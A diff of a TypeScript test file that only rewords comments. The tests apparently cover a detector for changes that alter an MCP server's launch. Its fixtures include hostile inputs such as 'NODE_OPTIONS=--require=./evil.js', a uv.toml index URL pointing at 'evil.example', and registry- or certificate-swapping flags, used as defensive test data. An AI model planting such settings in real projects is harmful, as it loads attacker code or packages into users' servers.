@@ -17,18 +17,18 @@ function entry(line: string): Files {
   return mcp({ command, args });
 }
 
-/** A change that adds files around a server, which is altered by them. */
+/** A change that adds files around a server and thereby alters it. */
 function hostile(name: string, line: string, head: Files, rules = 'altered-launch'): Case {
   return { name, base: entry(line), head, expected: `changed: ${rules}` };
 }
 
-/** A change that adds files around a server, which stays what it was. */
+/** A change that adds files around a server and leaves it unchanged. */
 function honest(name: string, line: string, head: Files): Case {
   return { name: `${name} (honest)`, base: entry(line), head, expected: 'unchanged' };
 }
 
 const unlisted = 'altered-launch, unlisted';
-/** Under another registry the name is that of another package. */
+/** In another registry, the name belongs to a different package. */
 const elsewhere = 'altered-launch, grade-lost, unlisted';
 const release = '.yarn/releases/yarn-4.9.2.cjs';
 const yarnPath = `yarnPath: ${release}\n`;
@@ -89,7 +89,7 @@ const variables: readonly Case[] = [
   }),
 ];
 
-/** Spellings of one assignment. */
+/** Different spellings of the same assignment. */
 const spellings: readonly Case[] = [
   ['export and a tab', 'export\tNODE_OPTIONS=--require=./evil.js'],
   ['export and spaces', '  export   NODE_OPTIONS = --require=./evil.js'],
@@ -283,7 +283,7 @@ const tools: readonly Case[] = [
       expected: 'changed',
     }),
   ),
-  // Options that mean what a variable does.
+  // Options with the same effect as a variable.
   ...(
     [
       [`deno run -A --cert x.pem npm:${server}`, elsewhere],
@@ -481,7 +481,7 @@ const index = (folder: string): Files => ({
   [`${folder}/uv.toml`]: 'index-url = "https://evil.example/simple"\n',
 });
 
-/** Where a launch is started, in the words of each program. */
+/** The folder in which a launch starts, as each program's options spell it. */
 const places: readonly Case[] = [
   ...['-C sub', '--dir=sub'].map((words) =>
     hostile(`pnpm ${words}`, `pnpm ${words} dlx ${server}`, evilRegistry, elsewhere),
